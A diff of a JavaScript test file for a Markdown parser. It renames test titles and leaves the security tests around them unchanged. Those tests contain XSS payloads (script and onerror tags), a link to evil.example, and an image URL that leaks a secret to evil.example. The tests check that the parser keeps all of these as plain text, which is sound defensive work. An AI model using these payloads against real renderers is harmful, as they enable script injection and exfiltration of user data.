@@ -21,7 +21,7 @@ it('reads paragraphs, line breaks and lists', () => {
   ]);
 });
 
-it('reads headings and fenced code, also code without an end', () => {
+it('reads headings and fenced code, even unclosed', () => {
   expect(parseMarkdown('## Tu recibo ##\n```json\n{"a": "**b**"}\n```\n~~~\nabierto')).toEqual([
     { type: 'heading', children: [text('Tu recibo')] },
     { type: 'code', text: '{"a": "**b**"}' },
@@ -59,17 +59,17 @@ it.each([
   '[x](//evil.example)',
   '<img src=x onerror=alert(1)>',
   '<script>alert(1)</script>',
-])('leaves %s the text it is', (source) => {
+])('leaves %s as text', (source) => {
   expect(parseInline(source)).toEqual([text(source)]);
 });
 
-it('shows no image and does not load one', () => {
+it('leaves an image as text, so that it is not loaded', () => {
   const inlines = parseInline('![saldo](https://evil.example/?q=secret)');
   expect(inlines).toEqual([text('![saldo](https://evil.example/?q=secret)')]);
 });
 
 it.each(['*', '_a', '[', '`a', '**a ', '[a](', 'https://', '- ', '\\\\'])(
-  'comes to an end with "%s" over and over',
+  'terminates for many repetitions of "%s"',
   (piece) => {
     expect(parseMarkdown(piece.repeat(4_000 / piece.length)).length).toBeGreaterThan(0);
   },
